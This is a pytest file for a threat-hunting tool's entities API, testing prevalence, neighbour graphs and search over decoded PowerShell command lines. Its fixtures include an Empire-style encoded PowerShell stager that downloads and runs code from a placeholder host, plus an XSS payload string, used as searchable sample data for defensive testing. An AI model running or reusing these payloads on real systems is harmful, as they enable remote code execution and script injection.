"""``/v1/entities``: prevalence and hosts, neighbours (depth, limit, types), search."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from tests.api.conftest import Api
from tests.api.fleet import CAMPAIGN_DOMAIN, CAMPAIGN_HOSTS, HOSTS
from tests.web.support import process_creation  # the Winlogbeat 7 Sysmon 1 the page tests use


def test_entity_prevalence_first_last_seen_and_hosts(api: Api) -> None:
    api.ingest_fleet()
    entity = api.get(f"/v1/entities/domain/{CAMPAIGN_DOMAIN}", role="analyst").json()
    assert (entity["type"], entity["key"], entity["value"]) == ("domain", CAMPAIGN_DOMAIN,
                                                                CAMPAIGN_DOMAIN)
    assert entity["prevalence"]["hosts"] == len(CAMPAIGN_HOSTS)
    assert entity["prevalence"]["first_seen"] <= entity["prevalence"]["last_seen"]
    assert sorted(h["host"] for h in entity["hosts"]) == sorted(CAMPAIGN_HOSTS)


def test_entity_lookup_normalises_what_a_person_types(api: Api) -> None:
    api.ingest_fleet()
    assert api.get(f"/v1/entities/domain/{CAMPAIGN_DOMAIN.upper()}.").status_code == 200
    assert api.get(f"/v1/entities/host/{HOSTS[0].upper()}").status_code == 200


def test_unknown_entity_is_404_and_unknown_type_is_422(api: Api) -> None:
    missing = api.get("/v1/entities/domain/nowhere.example")
    assert missing.status_code == 404 and missing.json()["error"]["field"] == "path.value"
    bad_type = api.get("/v1/entities/planet/mars")
    assert bad_type.status_code == 422
    assert bad_type.json()["error"]["field"] == "path.entity_type"


def test_neighbors_depth_limit_and_types(api: Api) -> None:
    api.ingest_fleet()
    one = api.get(f"/v1/entities/domain/{CAMPAIGN_DOMAIN}/neighbors", role="analyst").json()
    assert one["center"] == f"domain:{CAMPAIGN_DOMAIN}" and one["depth"] == 1
    ids = {n["id"] for n in one["graph"]["nodes"]}
    assert one["center"] in ids and len(ids) > 1
    assert all(one["center"] in (e["source"], e["target"]) for e in one["graph"]["edges"])
    two = api.get(f"/v1/entities/domain/{CAMPAIGN_DOMAIN}/neighbors",
                  params={"depth": 2}).json()
    assert {n["id"] for n in two["graph"]["nodes"]} > ids
    limited = api.get(f"/v1/entities/domain/{CAMPAIGN_DOMAIN}/neighbors",
                      params={"depth": 2, "limit": 2}).json()
    assert len(limited["graph"]["nodes"]) == 3  # the centre and two neighbours
    processes = api.get(f"/v1/entities/domain/{CAMPAIGN_DOMAIN}/neighbors",
                         params={"types": "process"}).json()
    others = [n for n in processes["graph"]["nodes"] if n["id"] != processes["center"]]
    assert others and all(n["type"] == "process" for n in others)
    too_deep = api.get(f"/v1/entities/domain/{CAMPAIGN_DOMAIN}/neighbors", params={"depth": 9})
    assert too_deep.status_code == 422 and too_deep.json()["error"]["field"] == "query.depth"


def test_search_by_prefix_and_substring_is_bounded(api: Api) -> None:
    api.ingest_fleet()
    prefix = api.get("/v1/entities", params={"q": "cdn-img"}, role="analyst").json()
    # The prefix hit ranks first; the command line that contains it follows.
    assert (prefix["items"][0]["type"], prefix["items"][0]["key"]) == ("domain", CAMPAIGN_DOMAIN)
    assert [h["type"] for h in prefix["items"][1:]] == ["process"]
    inner = api.get("/v1/entities", params={"q": "IMG-DELIVERY", "type": "domain"}).json()
    assert [h["key"] for h in inner["items"]] == [CAMPAIGN_DOMAIN]
    hosts = api.get("/v1/entities", params={"q": "ws-", "limit": 5}).json()
    assert len(hosts["items"]) == 5 and hosts["truncated"] is True
    none = api.get("/v1/entities", params={"q": "zzz-nothing"}).json()
    assert none == {"items": [], "truncated": False}
    assert api.get("/v1/entities", params={"q": ""}).status_code == 422


def test_values_with_slashes_and_markup_round_trip(api: Api) -> None:
    api.ingest_fleet()
    hits = api.get("/v1/entities", params={"q": "onerror", "type": "process"}).json()["items"]
    assert hits, "the campaign command line is searchable"
    key = hits[0]["key"]
    entity = api.get(f"/v1/entities/process/{key}").json()
    assert "<img src=x onerror=alert(1)>" in entity["value"]


# An Empire-style stager: the word the analyst looks for is only in the decoded
# script, never in the command line the agent logged (base64 of UTF-16LE).
DECODED_WORD = "QuokkaLantern"
STAGER = ("$wc=New-Object System.Net.WebClient;$wc.Headers.Add('<b>X-Tag</b>','" + DECODED_WORD
          + "');IEX $wc.DownloadString('http://198.51.100.7/news.php');Start-Sleep -Seconds 5")
ENCODED = base64.b64encode(STAGER.encode("utf-16-le")).decode("ascii")
STAGER_CMD = f"powershell.exe -NoP -sta -NonI -W Hidden -enc {ENCODED}"
# Only in a script block's text past the 200 characters its value keeps.
SCRIPT_WORD = "PangolinHarbour"
SCRIPT_TEXT = "# " + "padding " * 40 + f"\nWrite-Output '{SCRIPT_WORD}'"


def _script_block(host: str, record_id: int, text: str) -> dict[str, Any]:
    """A PowerShell 4104 (script block logging) event as Winlogbeat 7 ships it."""
    return {"@timestamp": "2026-11-20T09:00:05.000Z", "winlog": {
        "channel": "Microsoft-Windows-PowerShell/Operational", "event_id": 4104,
        "computer_name": f"{host}.corp.example", "record_id": record_id,
        "event_data": {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text,
                       "ScriptBlockId": "{11111111-2222-3333-4444-555555555555}"}}}


@pytest.fixture
def stager_api(api: Api) -> Api:
    """The app after one encoded stager, a plain command naming the word, and a script block."""
    events = [process_creation("ws-0001", 11, "2026-11-20T09:00:00.000Z", STAGER_CMD),
              process_creation("ws-0002", 12, "2026-11-20T09:00:00.000Z", f"cmd.exe /c echo {DECODED_WORD}"),
              _script_block("ws-0003", 13, SCRIPT_TEXT)]
    report = api.post("/v1/events", role="ingest", json=events)
    assert report.status_code == 200 and report.json()["accepted"] == 3, report.text
    api.ctx.ingest.catch_up()
    return api


def test_search_finds_a_process_by_a_word_of_its_decoded_command(stager_api: Api) -> None:
    hits = stager_api.get("/v1/entities", params={"q": DECODED_WORD.lower(), "type": "process"},
                          role="analyst").json()["items"]
    stager = [h for h in hits if h["value"] == STAGER_CMD]
    assert len(stager) == 1 and DECODED_WORD not in STAGER_CMD
    assert stager[0]["matched"] == "decoded_command"
    # The snippet is the decoded text as written (case kept, markup untouched),
    # 60 characters either side of the match, cut where marked.
    at = STAGER.index(DECODED_WORD)
    assert stager[0]["snippet"] == "…" + STAGER[at - 60:at + len(DECODED_WORD) + 60] + "…"
    assert f"'<b>X-Tag</b>','{DECODED_WORD}')" in stager[0]["snippet"]
    detail = stager_api.get(f"/v1/entities/process/{stager[0]['key']}").json()
    assert detail["props"]["decoded_command"] == STAGER


def test_value_hits_rank_before_decoded_command_hits(stager_api: Api) -> None:
    hits = stager_api.get("/v1/entities", params={"q": DECODED_WORD}).json()["items"]
    assert [(h["matched"], h["value"].split(" ", 1)[0]) for h in hits] == [
        ("value", "cmd.exe"), ("decoded_command", "powershell.exe")]
    assert hits[0]["snippet"] is None
    only_one = stager_api.get("/v1/entities", params={"q": DECODED_WORD, "limit": 1}).json()
    assert [h["matched"] for h in only_one["items"]] == ["value"] and only_one["truncated"]


def test_a_word_of_the_encoded_command_line_is_a_value_hit_only(stager_api: Api) -> None:
    # A piece of the base64 is in the command line, not in what it decodes to.
    piece = ENCODED[40:64]
    assert piece.lower() not in STAGER.lower()
    hits = stager_api.get("/v1/entities", params={"q": piece}).json()["items"]
    assert [(h["value"], h["matched"], h["snippet"]) for h in hits] == [
        (STAGER_CMD, "value", None)]


def test_search_finds_a_script_by_its_text_beyond_its_value(stager_api: Api) -> None:
    hits = stager_api.get("/v1/entities", params={"q": SCRIPT_WORD.upper()}).json()["items"]
    assert [(h["type"], h["matched"]) for h in hits] == [("script", "text")]
    assert SCRIPT_WORD not in hits[0]["value"]
    assert hits[0]["snippet"].startswith("…") and hits[0]["snippet"].endswith(f"'{SCRIPT_WORD}'")


# A script block past the TEXT index's limit (32,766 bytes on Neo4j), the word at
# its very end, and a word that lower-cases differently in Python and Java.
LONG_SCRIPT_WORD = "MarmosetBeacon"
LONG_SCRIPT = "Write-Output 'pad'\n" * 3000 + f"# {LONG_SCRIPT_WORD} ΣΊΣΥΦΟΣ"


def test_search_finds_a_word_at_the_end_of_a_script_too_long_to_index(api: Api) -> None:
    report = api.post("/v1/events", role="ingest",
                      json=[_script_block("ws-0005", 21, LONG_SCRIPT)])
    assert report.status_code == 200 and report.json()["accepted"] == 1, report.text
    api.ctx.ingest.catch_up()
    for q in (LONG_SCRIPT_WORD.upper(), "beacon σίσυφος"):
        hits = api.get("/v1/entities", params={"q": q}, role="analyst").json()["items"]
        assert [(h["type"], h["matched"]) for h in hits] == [("script", "text")], q
        assert hits[0]["snippet"].endswith(f"# {LONG_SCRIPT_WORD} ΣΊΣΥΦΟΣ")
